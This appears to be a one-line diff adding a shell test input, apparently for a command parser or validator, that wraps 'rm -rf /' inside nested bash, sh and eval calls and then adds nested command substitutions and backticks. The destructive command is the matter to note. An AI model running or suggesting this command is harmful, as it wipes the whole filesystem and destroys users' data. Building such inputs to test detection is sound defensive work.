@@ -1,0 +1,1 @@
+bash -c "sh -c 'eval \"rm -rf /\"'"; echo $( a $( b $( c ) ) ) `d \`e\``
